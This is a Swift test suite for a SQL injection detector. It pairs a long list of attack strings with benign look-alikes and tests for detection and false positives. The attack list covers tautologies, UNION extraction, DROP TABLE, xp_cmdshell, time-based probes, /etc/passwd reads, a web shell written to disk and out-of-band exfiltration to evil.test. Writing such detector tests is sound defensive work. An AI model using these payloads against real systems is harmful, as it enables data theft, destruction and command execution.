import MirrorGuardCore
import Testing
@testable import Detection

/// Attack rows written for this project: each technique from several contexts and with the usual obfuscations.
let sqlAttackRows: [Row] = [
    "value'/*!0UNION/*!0ALL/*!0SELECT/*!0CONCAT(/*!0CHAR(58,107),NULL)#", "1/*!0UNION*/ /*!0SELECT*/ password from users",
    "1; shutdown--", "1'; shutdown with nowait--", "1; with x as (select password from users) select * from x--",
    // tautologies from each context
    "' OR '1'='1", "' or 'x'='x", "admin' OR 1=1-- -", "admin'--", "x' or 1=1#", "\" OR \"\"=\"", "\" or 1=1 --",
    "1 OR 1=1", "7 or 2>1", "1) OR (1=1", "1' OR '1'='1' /*", "') or ('a'='a", "\") or (\"a\"=\"a",
    "' OR TRUE--", "1 OR TRUE", "-1' OR 3*2=6 -- ", "' or 'abc' like 'a%", "0' || '1'='1", "1' AND 'b'='b",
    "x' OR x=x--", "' OR 1 IN (1)-- ", "' or 2 between 1 and 3--", "99 OR 1=1 LIMIT 1",
    // union based
    "1 UNION SELECT null,null--", "-7 union all select 1,2,3,4", "' UNION SELECT username, password FROM users--",
    "0 union select table_name from information_schema.tables", "x') UNION SELECT @@version,2-- ",
    "1 union select 1,group_concat(column_name) from information_schema.columns where table_name='users'",
    "-1 UNION(SELECT 1,2)", "1/**/UNION/**/SELECT/**/1,2,3", "1 /*!50000UNION*/ /*!50000SELECT*/ 1,2",
    "1\nunion\nselect\n1,2", "1 UnIoN aLl SeLeCt 1, version()", "' union select load_file('/etc/passwd'),2-- -",
    "10 union distinct select password from admins", "-3\nUNION\nSELECT\nuser()",
    // stacked queries
    "1; DROP TABLE users", "1'; DROP TABLE accounts;--", "5; DELETE FROM orders WHERE 1=1", "x'; UPDATE users SET role='admin' WHERE name='bob'--",
    "1; INSERT INTO logins VALUES ('a','b')", "1; EXEC xp_cmdshell 'whoami'--", "'; exec master..xp_cmdshell 'ping 10.0.0.1'--",
    "1; SELECT pg_sleep(5)--", "1; SHUTDOWN--", "'; DECLARE @x varchar(99); SET @x='dir'; EXEC(@x)--",
    "1;TRUNCATE TABLE audit", "2; create user eve identified by 'x'--",
    // time based blind
    "1 AND SLEEP(5)", "1' AND SLEEP(5)-- -", "' OR SLEEP(3)#", "1 and benchmark(5000000,md5(1))", "1' waitfor delay '0:0:5'--",
    "1; WAITFOR DELAY '00:00:05'", "1) AND pg_sleep(5)--", "1 AND 1=(SELECT 1 FROM pg_sleep(5))", "SLEEP(10)#",
    "1' and (select sleep(5) from dual where 1=1)-- ", "1 AND randomblob(500000000)", "1 RLIKE (SELECT (SELECT SLEEP(5)))",
    "1' AND (SELECT 1 FROM (SELECT(SLEEP(5)))x)-- ", "1 OR IF(1=1,SLEEP(4),0)", "x' AND dbms_lock.sleep(5)--",
    // error based
    "1 AND extractvalue(1,concat(0x7e,version()))", "1' and updatexml(null,concat(0x3a,user()),null)-- -",
    "1 AND (SELECT 1 FROM(SELECT COUNT(*),CONCAT(version(),FLOOR(RAND(0)*2))x FROM information_schema.tables GROUP BY x)a)",
    "1 AND exp(~(SELECT * FROM (SELECT user())x))", "1 AND 1=CONVERT(int,(SELECT @@version))", "1' AND 1=CAST(version() AS int)--",
    "1 and gtid_subset(concat(0x7e,database()),1)",
    // boolean blind and probes
    "1 AND ascii(substring(version(),1,1))>52", "1' AND substring(@@version,1,1)='5", "1 AND (SELECT count(*) FROM users)>0",
    "1' AND length(database())=8-- -", "1 AND 1=1", "1 AND 1=2", "2 AND ord(mid(user(),1,1))>64", "' AND 1=0 UNION SELECT 1--",
    "1 ORDER BY 5--", "1' ORDER BY 3-- -", "1' GROUP BY 1,2--", "1 HAVING 1=1", "@@version", "1 AND @@version LIKE '5%'",
    "1 AND (SELECT CASE WHEN (1=1) THEN 1 ELSE 0 END)=1", "(CASE WHEN 1=1 THEN SLEEP(2) ELSE 0 END)",
    "(SELECT password FROM users LIMIT 1)", "ascii(substring(version() from 1 for 1))",
    // out of band and files
    "1 union select 1 into outfile '/var/www/shell.php'", "1' INTO DUMPFILE '/tmp/x'--", "1; COPY t FROM PROGRAM 'id'--",
    "1 and load_file(concat('\\\\\\\\',version(),'.evil.test\\\\a'))", "1' AND utl_http.request('http://evil.test/'||user) IS NOT NULL--",
    "select load_file('/etc/passwd')", "SELECT @@version", "select pg_sleep(10)",
    // quoting and comment tricks
    "admin'/*", "admin' #", "1'/**/OR/**/1=1#", "1'||'1'='1", "1' aNd '1'='1", "1'%a0or%a01=1--", "\\' OR 1=1-- ",
    "1 or 0x31=0x31", "1 OR 'a'='a'", "1' or 2>1 or '1'='1' --", "$$a$$ union select 1", "1 /*!OR*/ 1=1",
    // whole statements that probe: constant columns, server identity, catalogs
    "SELECT 1,2,3 FROM products WHERE", "select @v, 5 from t where", "SELECT current_user", "SELECT * FROM pg_user",
    "select version();", "SELECT 'a' \"x\" -- note", "CREATE TABLE t (c TEXT); LOAD DATA INFILE '/etc/hosts' INTO TABLE t",
    // constants cut short by a comment, bare UNION probes, queries glued to the literal
    "7 --", "(( 3 )) --", "( BINARY ( 'x') ) /*", "@v #", "-5 UNION", "2/**/union#", "9 (SELECT name FROM accounts)",
    "abc' (SELECT count(*) FROM a, b) 'abc", "4DUNION SELECT 1",
    // quoted operators, UNION after a prefix the grammar cannot read
    "q 'RLIKE' r", "' MOD '", "'XOR'", "[x] UNION SELECT name FROM information_schema.schemata", "{fn 1} union select 1,2",
    // conditions over constants and catalogs, MSSQL batches without semicolons
    "CASE 3 WHEN 4 THEN 5 END", "IF((SELECT count(*) FROM sysobjects)>0,1,2)",
    "x' SELECT 2 DECLARE @q varchar(9) EXEC(@q)--", "IF(1=1) SELECT 1 ELSE DROP TABLE t--",
].map(Row.init)

/// Benign rows that look like SQL: names, prose, search syntax, code, identifiers.
let sqlBenignRows: [Row] = [
    "Foundation; with no Invariant Sections, no Front-Cover Texts, and", "<li>a shutdown function</li>",
    "1 shutdown procedure", "We commit to quality", "ok; with love",
    "O'Brien", "O'Neil & Sons", "d'Artagnan", "It's 5 o'clock", "Don't stop", "rock 'n' roll", "Mc'Donald's",
    "select your plan", "Select a size", "union station", "Union Pacific", "Order by phone", "order by 5pm", "drop shipping",
    "Drop us a line", "Delete my account", "update your profile", "Insert coin", "I want to create a table", "exec summary",
    "1-2-3", "<3", "a<b and c>d", "--verbose", "-- signed, Bob", "5 or 6", "4 and 5", "10-20 items", "2024-01-15", "12:30",
    "550e8400-e29b-41d4-a716-446655440000", "en-US,en;q=0.9", "text/html,application/xhtml+xml", "gzip, deflate, br",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0 Safari/537.36",
    "1F767F17239C9B670A39E9B10C3825F4", "user@example.com", "+33 1 23 45 67 89", "12 Rue de la Paix", "#2 pencil",
    "Size 9\" #3 knitting hook", "\"LIKE\" button sticker", "select 'and'", "say 'or' twice", "the \"&\" symbol", "boots -leather -suede --kids", "The students' -- and teachers'",
    "Tom' or Jerry", "x = y", "a = b or c = d", "price >= 100", "if you select all, the union will be complete",
    "Users (and admins) can sleep(5 hours)", "version 2.0 (beta)", "SLEEP MODE", "benchmark results", "Sleep well",
    "Where there's a will, there's a way", "from here to there", "Having fun? Select one", "truncate the text",
    "SELECT name FROM users WHERE id = 1", "SELECT * FROM orders", "INSERT INTO t VALUES (1, 'a');", "CREATE TABLE x (id INT);",
    "WHERE owner IN (SELECT id FROM team_members)", "AND u.kind = 'x'", "AND o.user_id = u.id",
    "CASE WHEN o.state = 'paid' THEN o.total ELSE null END", "CAST(current_user() AS text) AS owner_name,",
    "REVOKE EXECUTE ON FUNCTION lo_export(oid, text) FROM public;", "if (items !== null && items.length) {",
    "if len(parts) >= 2 and \\", "path = \"/\".join(parts[1:])", "return ':'.join(octets)", "if url[0] != '/':",
    "\"Mod\": \"%\",", "case '>':", "choices=('<input>', '<output>'),", "print('*debug*', self.format(msg))",
    "logger.info('exec', 'Running in batch mode')", "AS 'SELECT public.rename_file($1, $2)'",
    "const x = a || b;", "x && y", "!important", "color: red; /* comment */", "# heading", "// comment", "/* block */",
    "path/to/file.txt", "C:\\Program Files\\App", "https://example.com/search?q=select+union&page=2", "a=1&b=2",
    "{\"a\": 1, \"b\": [1, 2]}", "[1, 2, 3]", "(555) 123-4567", "(see above)", "(optional) --", "Chapter 1; Section 2",
    "Smith, John; Doe, Jane", "Please drop them off at the front desk", "And every drop counts",
    "To execute the plan we need time", "Execute the following steps", "Gate code is 1234; call when you arrive", "Trays; set of 4",
    "See User(name) in the docs", "Step 1; exec team will review", "'if'", "\"IS\" it real?", "12\" #4 pan",
    "\"#1 DAD\" mug", "\" and \"marvel\" fans", "type IN ('DELETE')", "Bread and butter = love", "isn't it; or is it",
    "1 + 1 = 2", "E = mc^2", "x' y", "''", "\"\"", "It''s escaped", "N/A", "100%", "50% off -- today only",
    // statements a DBA or a tutorial writes: named columns, DDL, no constant padding
    "select name from people where", "SELECT oid, datname FROM pg_database", "SELECT * FROM information_schema.tables WHERE table_schema = 'public';", "CREATE FUNCTION pg_sleep_for(interval)",
    "SELECT a.id FROM a UNION SELECT b.id FROM b", "the union select board", "3,4--", "return '/';",
    "for (i = n - 1; i >= 0; i--) {", "(see chapter 2) --", "Case 5: when in doubt, ask", "select count(1) from orders",
    "SELECT id, 'active' AS status FROM users", "SELECT name, 0 AS score FROM players ORDER BY name", "select version from releases where",
].map(Row.init)

@Suite("SQL injection")
struct SQLInjectionTests {
    let detector = SQLInjectionDetector()

    @Test("attack rows are detected", arguments: sqlAttackRows)
    func attacks(_ row: Row) {
        let found = hits(detector, row.value)
        #expect(found.count == 1, "not detected: \(row.value)")
        if let hit = found.first {
            #expect(hit.type == .sqli)
            #expect(hit.detector == "sqli.grammar")
            #expect(!hit.fragment.isEmpty)
            #expect(hit.fragment.utf8.count <= Hit.maxFragmentBytes)
            #expect(hit.reason.contains("context"))
        }
    }

    @Test("benign look-alikes are not", arguments: sqlBenignRows)
    func benign(_ row: Row) {
        let found = hits(detector, row.value)
        #expect(found.isEmpty, "false positive: \(row.value) → \(found.map(\.fragment))")
    }

    @Test("the context and the tokens that made it code are reported")
    func explanation() throws {
        let quote = try #require(hits(detector, "john' OR '1'='1").first)
        #expect(quote.context == "single-quote")
        #expect(quote.fragment == "' OR '1'='1")
        #expect(quote.reason.contains("boolean"))
        let union = try #require(hits(detector, "5 UNION SELECT password FROM users").first)
        #expect(union.context == "numeric")
        #expect(union.reason.contains("UNION"))
        let time = try #require(hits(detector, "1' AND SLEEP(5)-- -").first)
        #expect(time.reason.contains("time-based"))
    }

    @Test("prose skips the recognisers only when no context could read it as SQL")
    func proseShortcut() {
        // Words drawn from SQL's vocabulary and from prose, numbers glued to words, blanks of every kind: whenever the
        // shortcut says "no SQL here", the recognisers, run in every context, must agree.
        let words = ["red", "dress", "or", "OR", "and", "union", "select", "1", "2", "5pm", "1or2", "x1", "sleep", "between", "like",
                     "true", "null", "is", "not", "order", "by", "Jane", "Paix", "rue", "de", "la", "12", "inch", "version", "user",
                     "1 or 1", "0 union select 1", "2 or true", "1 or 2 between 1 and 3"]
        let blanks = [" ", "  ", "\t", "\n", "\r\n"]
        var state: UInt64 = 0x853C_49E6_748F_EA9B
        func next(_ bound: Int) -> Int {
            state = state &* 6_364_136_223_846_793_005 &+ 1_442_695_040_888_963_407
            return Int(state >> 33) % bound
        }
        var skipped = 0, attacks = 0
        for _ in 0..<4000 {
            var text = ""
            for position in 0..<(1 + next(5)) {
                if position > 0 { text += blanks[next(blanks.count)] }
                text += words[next(words.count)]
            }
            let bytes = Array(text.utf8)
            bytes.withUnsafeBufferPointer { value in
                let profile = ValueProfile(value)
                let full = detector.recognizeInEveryContext(value, profile: profile)
                if full != nil { attacks += 1 }
                if detector.isWordsWithoutSQL(value) {
                    skipped += 1
                    #expect(full == nil, "\(text) is SQL in some context")
                }
                #expect((detector.recognize(value, profile: profile) == nil) == (full == nil), "\(text)")
            }
        }
        // Both kinds occur, so the comparison means something.
        #expect(skipped > 300 && attacks > 100, "\(skipped) skipped, \(attacks) attacks")
        // Symbols never take the shortcut, whatever the words: `@@version` alone probes the server.
        for text in ["@@version", "red-dress", "x.y", "a_b", "1#", "o'neill"] {
            #expect(!Array(text.utf8).withUnsafeBufferPointer { detector.isWordsWithoutSQL($0) }, "\(text)")
        }
    }

    @Test("the tables are large enough to mean something")
    func tableSizes() {
        #expect(sqlAttackRows.count >= 100)
        #expect(sqlBenignRows.count >= 100)
    }
}
